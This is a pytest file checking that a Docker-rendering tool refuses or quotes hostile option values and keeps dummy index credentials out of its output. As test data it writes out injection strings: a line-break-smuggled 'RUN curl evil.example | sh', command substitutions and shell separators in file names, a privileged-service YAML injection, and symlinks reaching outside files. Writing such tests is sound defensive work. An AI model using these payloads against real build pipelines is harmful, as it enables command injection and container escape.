"""Hostile and odd inputs of ``render`` and ``build``: what they must never do with them.

A value of the options (a command, a path, a wheel's file name, a base image) never adds an instruction to a
Dockerfile, a key to the compose file or a pattern to the ``.dockerignore``, and never runs as a shell command in
a RUN: it is quoted for its place or refused in one line before anything is written. Rendered files are never
written through a link to a place outside the project. Index credentials reach no rendered file, no docker
argument and no printed line, and their file never lies inside the build context. Docker is a fake here: the
tests check what would run.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import tempfile
from pathlib import Path

import pytest

from tests.conftest import Cli
from tests.support.dockerfiles import instructions, runs
from tests.support.wheels import make_wheel, write_wheel
from tests.test_docker import TARGET_ARGS, FakeDocker, make_app_project
from tests.test_outputs_hostile import one_error
from wheelhouse.docker import buildkit
from wheelhouse.docker.context import HeavyWheel
from wheelhouse.docker.images import default_base_image, parse_base_image
from wheelhouse.docker.render import (
    COMPOSE_OFFLINE,
    DOCKERFILE_CACHED,
    DOCKERFILE_OFFLINE,
    DOCKERFILE_WHEELS,
    DOCKERIGNORE,
    GENERATED_MARKER,
    RENDERED_FILES,
    RenderOptions,
    render,
)
from wheelhouse.errors import UsageError
from wheelhouse.targets import parse_target

AMD64 = parse_target("linux/amd64", python="3.11")
PASSWORD = "hunter2-Pa55"
SECRET_URL = f"https://deploy:{PASSWORD}@pypi.example.com/simple/"
# Characters that end a line for some reader of the rendered files: Docker and YAML (\n, \r), YAML 1.1 (\x85,
# \u2028), and the other control characters.
LINE_BREAKS = ["\n", "\r", "\x85", "\u2028", "\x0b"]


def _options(**kwargs: object) -> RenderOptions:
    kwargs.setdefault("base_image", parse_base_image(default_base_image(AMD64)))
    return RenderOptions(target=AMD64, **kwargs)  # type: ignore[arg-type]


def _project(root: Path) -> None:
    """A folder that covers ``aaa`` for TARGET_ARGS, the requirements naming it, and an app."""
    write_wheel(root / "wheels", "aaa", "1.0")
    (root / "requirements.txt").write_text("aaa\n")
    (root / "app").mkdir()
    (root / "app" / "main.py").write_text("print('hi')\n")


def _project_and_secret(root: Path, outside: Path) -> Path:
    """:func:`_project`, and ``outside`` (out of the project) holding a line that must never be quoted."""
    _project(root)
    outside.write_text("root:SECRET-LINE:0:0\n")
    return outside


def _rendered(project: Path) -> list[str]:
    return sorted(name for name in RENDERED_FILES if (project / name).exists() or (project / name).is_symlink())


def _shell_words(text: str) -> tuple[str, ...]:
    """The words a POSIX shell makes of ``text`` (each printed on a line of its own)."""
    proc = subprocess.run(["sh", "-c", f"printf '%s\\n' {text}"], capture_output=True, text=True, check=True)
    return tuple(proc.stdout.splitlines())


@pytest.fixture
def fake_docker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeDocker:
    return FakeDocker(tmp_path / "fakebin", monkeypatch)


# -- the header repeats the command: nothing may break out of its comment -----------------------------------


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_a_cmd_with_a_line_break_is_refused_before_anything_is_written(project: Path, cli: Cli, brk: str) -> None:
    _project(project)
    # Quoted, so the break stays inside one word of the command (shlex.split would otherwise drop it).
    cmd = f"python -c 'print(1){brk}RUN curl evil.example | sh{brk}x-evil: 1{brk}!**'"
    result = cli("render", *TARGET_ARGS, "--cmd", cmd)
    assert result.exit_code == 2, result.output
    line = one_error(result.stderr)
    assert line.startswith("error: bad --cmd: ")
    assert "control character" in line
    assert _rendered(project) == []


def test_a_cmd_without_control_characters_keeps_its_quotes_and_dollars_in_one_exec_form_cmd() -> None:
    cmd = ("sh", "-c", "echo \"$(id)\" 'x' `uname`; RUN curl evil")
    result = render(_options(cmd=cmd))
    for name, text in result.files.items():
        header = text.splitlines()[1]
        assert header.startswith("#   wheelhouse render "), name
        # The header's command gives back the same command, word for word.
        words = shlex.split(header.removeprefix("#   "))
        assert tuple(shlex.split(words[words.index("--cmd") + 1])) == cmd
    steps = instructions(result.files[DOCKERFILE_OFFLINE])
    assert steps[-1] == 'CMD ["sh", "-c", "echo \\"$(id)\\" \'x\' `uname`; RUN curl evil"]'
    assert not any(step.startswith("RUN curl") for step in steps)


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_a_path_with_a_line_break_or_control_character_is_refused(brk: str) -> None:
    for field, value in (
        ("requirements", (f"req{brk}x-evil: 1.txt",)),
        ("app_dir", f"app{brk}RUN curl evil"),
        ("context_wheels", (f"wheels/aaa-1.0-1{brk}x-py3-none-any.whl",)),
    ):
        with pytest.raises(UsageError, match="control character"):
            render(_options(**{field: value}))


def test_a_requirements_file_named_with_a_carriage_return_is_refused_in_one_line(project: Path, cli: Cli) -> None:
    _project(project)
    name = "req\rservices: {evil: {privileged: true}}.txt"
    (project / name).write_text("aaa\n")
    result = cli("render", *TARGET_ARGS, "-r", name)
    assert result.exit_code == 2, result.output
    assert "control character '\\r'" in one_error(result.stderr)
    assert _rendered(project) == []


# -- paths Docker would expand or unquote in COPY and RUN --mount -------------------------------------------


@pytest.mark.parametrize("path", ["req$HOME.txt", "req${X}.txt", "bob's.txt", 'say"hi".txt'])
def test_a_path_docker_would_expand_or_unquote_is_refused(project: Path, cli: Cli, path: str) -> None:
    _project(project)
    (project / path).write_text("aaa\n")
    result = cli("render", *TARGET_ARGS, "--classic", "-r", path)
    assert result.exit_code == 2, result.output
    line = one_error(result.stderr)
    assert line.startswith(f"error: bad path {path!r}: Docker reads ")
    assert "the image would get another file" in line
    assert _rendered(project) == []


@pytest.mark.parametrize("path", [" req.txt", "req.txt "])
def test_a_path_with_spaces_at_its_ends_is_refused(project: Path, cli: Cli, path: str) -> None:
    # Docker trims them around a .dockerignore pattern: "! req.txt " would let "req.txt" in instead.
    _project(project)
    (project / path).write_text("aaa\n")
    result = cli("render", *TARGET_ARGS, "--classic", "-r", path)
    assert result.exit_code == 2, result.output
    assert one_error(result.stderr).startswith(f"error: bad path {path!r}: Docker trims the spaces")
    assert _rendered(project) == []


# -- the wheels folder's name in the RUN commands --------------------------------------------------------------


@pytest.mark.parametrize("classic", [False, True])
@pytest.mark.parametrize("wheels", ["w;id", "w`id`", "w&&id", "w|id"])
def test_the_wheels_folder_is_one_shell_word_in_every_run(wheels: str, classic: bool) -> None:
    files = render(_options(wheels=wheels, classic=classic, lock="pylock.toml")).files
    quoted = shlex.quote(wheels)
    assert quoted != wheels
    for name in (DOCKERFILE_WHEELS, DOCKERFILE_CACHED, DOCKERFILE_OFFLINE):
        found = re.findall(r"--find-links=(\S+)", "\n".join(runs(files[name])))
        assert found, name
        # BuildKit's offline install finds the wheels where they are mounted; every other one is quoted.
        assert set(found) <= {quoted, shlex.quote(f"/tmp/wheelhouse/{wheels}")}, (name, found)
        assert set(map(_shell_words, found)) <= {(wheels,), (f"/tmp/wheelhouse/{wheels}",)}
    for name in (DOCKERFILE_WHEELS, DOCKERFILE_CACHED):
        (fallback,) = [step for step in runs(files[name]) if " || " in step]
        message = re.search(r'echo ("(?:[^"\\]|\\.)*")', fallback)
        assert message is not None
        assert _shell_words(message.group(1)) == (
            f"{wheels}/ does not cover the requirements: installing what is missing from the package index",
        )


def test_a_wheels_folder_that_cannot_be_mounted_is_refused_for_the_classic_builder_too(project: Path, cli: Cli) -> None:
    # Dockerfile.cached mounts the folder whatever the builder: a space would end the RUN's flags there and
    # make the rest of the folder's name the command.
    with pytest.raises(UsageError, match="cannot be bind-mounted") as raised:
        render(_options(wheels="x sh -c id #", classic=True))
    assert raised.value.hint == "rename it"
    _project(project)
    (project / "wheels").rename(project / "my wheels")
    result = cli("render", *TARGET_ARGS, "--classic", "--wheels", "my wheels")
    assert result.exit_code == 2, result.output
    assert "the path 'my wheels' cannot be bind-mounted" in one_error(result.stderr)
    assert _rendered(project) == []


@pytest.mark.parametrize(("wheels", "pattern"), [("#w", "\\#w"), ("!w", "\\!w"), ("w[1]*", "w\\[1]\\*")])
def test_the_dockerignore_keeps_the_folders_bookkeeping_out_whatever_its_name(wheels: str, pattern: str) -> None:
    lines = render(_options(wheels=wheels)).files[DOCKERIGNORE].splitlines()
    assert f"{pattern}/.wheelhouse" in lines
    assert f"!{pattern}" in lines


# -- wheel file names from the folder ------------------------------------------------------------------------


def test_a_heavy_wheels_name_is_one_quoted_word_in_its_hash_check() -> None:
    heavy = (HeavyWheel("wheels/aaa-1.0-1'x-py3-none-any.whl", "aaa==1.0", "a" * 64),)
    text = buildkit._heavy_check(heavy)
    printf = text.split("|")[0].replace("\\\n", " ")
    assert shlex.split(printf) == ["printf", "%s\\n", f"{'a' * 64}  /tmp/wheelhouse/heavy/aaa-1.0-1'x-py3-none-any.whl"]


@pytest.mark.parametrize(
    ("build", "message"),
    [
        ("1'$(touch${IFS}pwned)'", "error: bad path \"wheels/aaa-1.0-1'$(touch${IFS}pwned)'-py3-none-any.whl\""),
        ("1,readonly=false", "cannot be bind-mounted"),
    ],
)
def test_a_heavy_wheel_whose_name_would_run_or_reopen_a_mount_is_refused(
    project: Path, cli: Cli, build: str, message: str
) -> None:
    """A build tag may hold almost anything, and the heavy layer names the file in its RUN."""
    name, data = make_wheel("aaa", "1.0", build=build, payload_size=300_000)
    (project / "wheels").mkdir(exist_ok=True)
    (project / "wheels" / name).write_bytes(data)
    (project / "requirements.txt").write_text("aaa\n")
    assert cli("verify", *TARGET_ARGS).exit_code == 0
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    assert message in one_error(result.stderr)
    assert _rendered(project) == []
    assert not (project / "pwned").exists()


# -- base images -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("image", ["acme/py\\", "acme/py:$TAG", "acme/py'x", "--privileged", "acme/py\u2028x"])
def test_a_base_image_that_is_no_image_reference_is_refused_in_one_line(
    project: Path, cli: Cli, fake_docker: FakeDocker, image: str
) -> None:
    _project(project)
    rendered = cli("render", *TARGET_ARGS, f"--base-image={image}", "--base-python", "3.11")
    assert rendered.exit_code == 2, rendered.output
    assert one_error(rendered.stderr).startswith(f"error: bad base image {image!r}")
    assert _rendered(project) == []
    # build reads the target from the image when none is given: the reference is refused before Docker runs.
    built = cli("build", f"--base-image={image}")
    assert built.exit_code == 2, built.output
    assert one_error(built.stderr).startswith(f"error: bad base image {image!r}")
    assert fake_docker.calls() == []


def test_a_registry_with_a_port_and_a_digest_is_still_a_base_image() -> None:
    image = f"registry.example.com:5000/team/py_base:3.11-slim@sha256:{'0' * 64}"
    text = render(_options(base_image=parse_base_image(image, declared_python="3.11"))).files[DOCKERFILE_OFFLINE]
    assert f"FROM {image}" in instructions(text)


# -- files outside the project ---------------------------------------------------------------------------------


def test_a_requirements_link_out_of_the_project_is_refused_without_quoting_its_lines(
    project: Path, cli: Cli, tmp_path: Path
) -> None:
    outside = _project_and_secret(project, tmp_path / "outside.txt")
    (project / "requirements.txt").unlink()
    (project / "requirements.txt").symlink_to(outside)
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    assert "is outside the build context" in one_error(result.stderr)
    assert "SECRET-LINE" not in result.output
    assert _rendered(project) == []


@pytest.mark.parametrize("option", ["-r", "-c"])
def test_a_file_included_from_out_of_the_project_is_refused_without_quoting_its_lines(
    project: Path, cli: Cli, tmp_path: Path, option: str
) -> None:
    outside = _project_and_secret(project, tmp_path / "outside.txt")
    (project / "requirements.txt").write_text(f"aaa\n{option} {outside}\n")
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    line = one_error(result.stderr)
    assert f"requirements.txt:2: outside {project.resolve()}, where every file of the input must be" in line
    assert "SECRET-LINE" not in result.output
    assert _rendered(project) == []


def test_a_lock_link_out_of_the_project_is_refused_without_quoting_its_lines(
    project: Path, cli: Cli, tmp_path: Path
) -> None:
    outside = _project_and_secret(project, tmp_path / "outside.lock")
    (project / "requirements.lock").symlink_to(outside)
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    assert "the lock" in one_error(result.stderr)
    assert "is outside the build context" in one_error(result.stderr)
    assert "SECRET-LINE" not in result.output


def test_a_default_app_link_out_of_the_project_is_refused(project: Path, cli: Cli, tmp_path: Path) -> None:
    _project(project)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "main.py").write_text("print('not this one')\n")
    (project / "app" / "main.py").unlink()
    (project / "app").rmdir()
    (project / "app").symlink_to(elsewhere)
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    assert "the app directory" in one_error(result.stderr)
    assert "is outside the build context" in one_error(result.stderr)
    assert _rendered(project) == []


@pytest.mark.parametrize("marked", [True, False])
def test_a_rendered_file_linked_out_of_the_project_is_never_written_through(
    project: Path, cli: Cli, tmp_path: Path, marked: bool
) -> None:
    _project(project)
    outside = tmp_path / "shared" / DOCKERFILE_OFFLINE
    outside.parent.mkdir()
    before = f"{GENERATED_MARKER}; stale\n" if marked else "FROM scratch\n"
    outside.write_text(before)
    link = project / DOCKERFILE_OFFLINE
    link.symlink_to(outside)
    first = cli("render", *TARGET_ARGS)
    if not marked:
        # A user's own file behind the link: refused, then replaced only with --force.
        assert first.exit_code == 2, first.output
        assert "refusing to overwrite" in one_error(first.stderr)
        assert link.is_symlink()
        first = cli("render", *TARGET_ARGS, "--force")
    assert first.exit_code == 0, first.output
    assert outside.read_text() == before
    assert not link.is_symlink()
    assert link.read_text().startswith(GENERATED_MARKER)
    assert list(outside.parent.iterdir()) == [outside]


def test_a_dangling_link_in_place_of_a_rendered_file_is_replaced_not_followed(
    project: Path, cli: Cli, tmp_path: Path
) -> None:
    _project(project)
    target = tmp_path / "nowhere" / "planted"
    (project / COMPOSE_OFFLINE).symlink_to(target)
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 0, result.output
    assert not target.parent.exists()
    assert not (project / COMPOSE_OFFLINE).is_symlink()
    assert (project / COMPOSE_OFFLINE).read_text().startswith(GENERATED_MARKER)


def test_a_directory_in_place_of_a_rendered_file_is_refused_in_one_line(project: Path, cli: Cli) -> None:
    _project(project)
    (project / DOCKERFILE_CACHED).mkdir()
    (project / DOCKERFILE_CACHED / "keep").write_text("x")
    refused = cli("render", *TARGET_ARGS)
    assert refused.exit_code == 2, refused.output
    assert "Dockerfile.cached in . was not written by wheelhouse render" in one_error(refused.stderr)
    forced = cli("render", *TARGET_ARGS, "--force")
    assert forced.exit_code == 2, forced.output
    assert one_error(forced.stderr) == "error: Dockerfile.cached is a directory; refusing to write the output there"
    assert _rendered(project) == [DOCKERFILE_CACHED]
    assert (project / DOCKERFILE_CACHED / "keep").read_text() == "x"


# -- index credentials -----------------------------------------------------------------------------------------


def test_render_puts_no_credential_in_any_file_nor_lets_the_config_into_the_context(project: Path, cli: Cli) -> None:
    _project(project)
    (project / "wheelhouse.toml").write_text(
        f'index-url = "{SECRET_URL}"\nextra-index-urls = ["https://tok:{PASSWORD}@extra.example.com/"]\n'
    )
    result = cli("render", *TARGET_ARGS)
    assert result.exit_code == 0, result.output
    assert PASSWORD not in result.output
    for name in RENDERED_FILES:
        assert PASSWORD not in (project / name).read_text(), name
    # The .dockerignore lets through nothing but what the images need: not the configuration.
    allowed = [line for line in (project / DOCKERIGNORE).read_text().splitlines() if line.startswith("!")]
    assert allowed == ["!wheels/aaa-1.0-py3-none-any.whl", "!requirements.txt", "!app"]
    assert "--mount=type=secret,id=pip_extra_index_url,required=true" in (project / DOCKERFILE_WHEELS).read_text()


def test_an_offline_build_hands_docker_no_index_at_all(project: Path, cli: Cli, fake_docker: FakeDocker) -> None:
    make_app_project(project)
    (project / "wheelhouse.toml").write_text(f'index-url = "{SECRET_URL}"\n')
    result = cli("-v", "build", *TARGET_ARGS, "-t", "app")
    assert result.exit_code == 0, result.output
    assert fake_docker.builds() == [["build", "--network=none", "-f", DOCKERFILE_OFFLINE, "-t", "app", "."]]
    assert fake_docker.calls()[-1]["secrets"] == {}
    assert PASSWORD not in result.output


def test_build_refuses_a_temporary_directory_inside_the_build_context_for_the_credentials(
    project: Path, cli: Cli, fake_docker: FakeDocker, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_app_project(project, with_beta=False)
    (project / "wheelhouse.toml").write_text(f'index-url = "{SECRET_URL}"\n')
    inside = project / "tmp"
    inside.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(inside))
    result = cli("build", "--wheels", *TARGET_ARGS)
    assert result.exit_code == 2, result.output
    line = one_error(result.stderr)
    assert f"the temporary directory {os.path.realpath(inside)} is inside the build context" in line
    assert "hint: set TMPDIR to a directory outside the project" in result.stderr
    assert fake_docker.builds() == []
    assert PASSWORD not in result.output
    assert not any(PASSWORD in p.read_text(errors="replace") for p in inside.rglob("*") if p.is_file())
